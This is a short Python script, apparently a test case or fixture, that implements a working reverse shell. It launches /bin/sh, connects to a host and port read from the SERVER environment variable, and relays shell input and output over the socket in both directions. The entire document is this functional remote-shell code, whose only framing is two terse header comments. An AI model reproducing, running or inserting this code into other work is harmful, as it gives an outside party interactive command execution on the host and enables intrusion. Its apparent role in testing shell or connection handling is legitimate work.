# what: the shell waits between its pipes long before there is a connection to feed it
# server: shell
import os, socket, subprocess, threading, time

p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
time.sleep(0.3)
host, port = os.environ["SERVER"].split(":")
print("begun", flush=True)
s = socket.create_connection((host, int(port)))

def inward():
    while data := s.recv(1024):
        os.write(p.stdin.fileno(), data)

threading.Thread(target=inward, daemon=True).start()
while data := os.read(p.stdout.fileno(), 1024):
    s.sendall(data)
print("done")
